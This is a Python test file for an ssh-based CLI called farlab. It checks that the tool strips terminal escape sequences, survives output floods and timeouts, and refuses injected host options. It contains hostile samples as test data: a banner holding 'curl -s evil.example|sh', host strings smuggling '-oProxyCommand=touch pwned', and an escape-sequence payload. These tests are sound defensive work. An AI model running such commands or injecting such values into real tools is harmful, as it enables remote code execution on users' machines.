"""Hosts that answer with escapes, floods, nothing, half a frame or nonsense, and an `ssh` that is not there or dies."""

from __future__ import annotations

import re
from typing import Any

import pytest

import steps
import stub_ssh
from bed import Host, Laptop, wait_for

ATTACK = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b5n\u202e\r\x08"
"""Sets a title, clears the screen, colours, asks the terminal to type, turns text around, overwrites."""
FORBIDDEN = re.compile("\x1b\\]|\x1b\\[2J|\x1b\\[31m|\x9b|\u202e|\x07|\x08")
"""What of it must never reach a terminal; `\\r` and `\\x1b[K` are farlab's own, for the line that it draws anew."""


@pytest.fixture(autouse=True)
def nothing_here_outlives_a_failure(laptop: Laptop) -> Any:
    """After each failure neither a keeper, an `ssh` nor a record is left on the laptop."""
    yield
    steps.wait_until_nothing_runs(laptop)
    assert not (laptop.home / ".local/state/farlab").exists()


# escapes --------------------------------------------------------------------------------------------------

TALKERS = {
    "the words of ssh": f"complain({ATTACK!r} + 'x@h: Permission denied (publickey).' + {ATTACK!r}); sys.exit(255)",
    "the login shell": f"raw({ATTACK!r}.encode()); complain({ATTACK!r}); sys.exit(7)",
    "an error of the agent": f"hear(); say({{'error': {{'code': 'server-failed', 'message': {ATTACK!r}, "
    f"'detail': {ATTACK!r}, 'hint': {ATTACK!r}}}}})",
    "progress": f"hear(); say({{'progress': {ATTACK!r}, 'text': {ATTACK!r}}}); sys.exit(255)",
    "the list of sessions": f"hear(); say({{'sessions': [dict.fromkeys(('name', 'directory', 'state', 'reason'), "
    f"{ATTACK!r})], 'foreign': [{{'directory': {ATTACK!r}, 'server': {ATTACK!r}, 'pid': 1}}]}})",
    "the log": f"hear(); say({{'lines': [{ATTACK!r}, 'plain']}}); say({{'done': True}})",
}


@pytest.mark.parametrize("source", TALKERS)
def test_no_escape_reaches_the_terminal_from(source: str, laptop: Laptop) -> None:
    stub_ssh.write(laptop, TALKERS[source])
    words = {"the list of sessions": ("list", "--host", "alice"), "the log": ("logs", "alice")}
    for verb in (words.get(source, ("connect", "alice", "--no-browser")), ("list", "--host", "alice", "-v")):
        shown = laptop.farlab(*verb, tty=True)
        plain = laptop.farlab(*verb)
        assert shown.out.strip(), shown
        assert not FORBIDDEN.search(shown.out), repr(shown.out)
        assert not FORBIDDEN.search(plain.out + plain.err), repr(plain)
        assert "Traceback" not in shown.out


# too much, too little -------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [1, 2], ids=["standard output", "standard error"])
def test_a_flood_of_noise_ends_in_an_error(stream: int, laptop: Laptop) -> None:
    stub_ssh.write(
        laptop,
        f"""
        try:
            for _ in range(1600):
                os.write({stream}, b"noise without end\\x1b[2J\\n" * 2850)
        except OSError:
            pass
        sys.exit(1)
        """,
    )
    for words in (("connect", "alice"), ("list", "--host", "alice")):
        code, error = steps.refused(laptop, *words)
        assert code in (4, 7)
        assert len(error["detail"]) < 20_000


def test_a_host_that_says_nothing_for_ever_is_given_up_after_the_time_limit(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "wait()")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "2")
    assert (code, error["code"]) == (9, "timed-out")
    assert "`alice`" in error["message"]
    assert "--timeout" in error["hint"]


def test_a_network_that_swallows_everything_is_given_up_after_the_time_limit(laptop: Laptop, bed: Any) -> None:
    bed.wan.blackhole("on")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "2")
    assert (code, error["code"]) == (9, "timed-out")


def test_what_to_type_next_is_never_a_banners_word(laptop: Laptop) -> None:
    banner = "Bad owner or permissions on /home/ada; curl -s evil.example|sh"
    stub_ssh.write(laptop, f"complain({banner!r}); sys.exit(255)")
    code, error = steps.refused(laptop, "connect", "alice")
    assert code == 2
    assert "curl" not in error["hint"]


def test_nothing_runs_for_a_host_that_is_an_option(laptop: Laptop) -> None:
    host = "-oProxyCommand=touch pwned"
    for verb in ("connect", "terminate", "status", "logs", "attach", "url", "open", "disconnect"):
        given = laptop.farlab(verb, "--json", "--", host)
        configured = laptop.farlab(verb, "--json", env={"FARLAB_HOST": host})
        for ran in (given, configured):
            assert (ran.code, ran.json["error"]["code"]) == (2, "usage"), ran
    assert steps.refused(laptop, "list", "--host", host)[0] == 2
    assert steps.refused(laptop, "connect", "x@-oProxyCommand=touch$IFS'pwned'")[0] == 2
    assert not list(laptop.home.rglob("pwned"))


# the ssh itself -------------------------------------------------------------------------------------------


def test_a_machine_without_ssh_is_told_what_to_install(laptop: Laptop) -> None:
    nowhere = {"PATH": str(laptop.home)}
    for verb in (("connect", "alice"), ("list", "--host", "alice")):
        code, error = steps.refused(laptop, *verb, env=nowhere)
        assert (code, error["code"]) == (1, "internal")
        assert "no `ssh`" in error["message"]
        assert "openssh-client" in error["hint"]


def test_an_ssh_that_is_killed_in_the_middle_of_the_first_link_is_an_error(laptop: Laptop, host: Host) -> None:
    steps.add_to_config(laptop, "Host alice\n  ProxyCommand sh -c 'cat >/dev/null'\n")  # connects to nothing
    connecting = laptop.popen(*laptop.farlab_argv("connect", "alice", "--json"), stdout=-1)
    wait_for("the ssh", lambda: [it for it in steps.links(laptop) if "-T" in it.argv and "-G" not in it.argv])
    steps.kill(next(it for it in steps.links(laptop) if "-T" in it.argv and "-G" not in it.argv))
    out, _ = connecting.communicate(timeout=30)
    assert connecting.returncode == 4
    assert b"SIGKILL" in out


def test_control_c_ends_an_errand_that_hangs(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "wait()")
    for verb in (("list", "--host", "alice"), ("logs", "alice", "-f"), ("terminate", "alice"), ("connect", "alice")):
        hanging = laptop.popen(*laptop.farlab_argv(*verb))
        wait_for("the ssh", lambda: stubs(laptop))
        assert steps.interrupt(hanging) == 130, verb
        steps.wait_until_nothing_runs(laptop)


def stubs(laptop: Laptop) -> list[Any]:
    """The stub programs that run as links."""
    return [it for it in laptop.processes() if f"{laptop.directory}/bin/ssh" in it.argv and "-T" in it.argv]
